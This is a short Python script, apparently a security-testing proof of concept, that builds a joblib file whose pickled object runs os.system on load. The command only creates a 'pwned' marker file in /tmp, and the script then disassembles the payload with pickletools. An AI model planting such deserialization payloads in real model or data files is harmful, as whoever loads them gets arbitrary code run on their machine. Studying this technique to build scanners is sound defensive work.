import joblib, numpy as np, os, io, pickletools
class R:
    def __init__(s, tag): s.tag = tag
    def __reduce__(s): return (os.system, (f"touch /tmp/rt17/pwned_{s.tag}",))
a = np.empty(1, dtype=[('a','O')]); a[0] = (R("jl_structobj"),)
joblib.dump(a, "jl_structobj_raw.joblib")
d = open("jl_structobj_raw.joblib","rb").read()
print(len(d)); 
try: pickletools.dis(d[:d.index(b"\x80", 5) if False else len(d)])
except Exception as e: print("ERR", e)
